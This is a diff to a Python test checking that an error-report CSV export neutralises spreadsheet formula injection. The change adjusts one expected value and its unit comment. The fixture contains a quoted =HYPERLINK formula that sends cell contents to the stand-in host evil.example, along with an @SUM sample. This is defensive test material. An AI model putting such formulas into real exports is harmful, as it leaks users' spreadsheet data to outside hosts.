@@ -262,7 +262,7 @@ def test_the_error_report_never_runs_a_formula(client, tmp_path, operator_user, 
         body = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
         values = {(row[0], row[3]) for row in list(csv.reader(io.StringIO(body)))[1:] if row[1] == "error"}
         assert values >= {("2", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\")"), ("3", "'@SUM(1+1)"),
-                          ("4", "'-20000")}  # 万元 in yuan
+                          ("4", "'-2")}  # as written, in 万元
         assert not [value for _row, value in values if value[:1] in "=+-@"]
     output = tmp_path / "report.csv"
     call_command("ingest", "report", str(batch.pk), "--output", str(output))
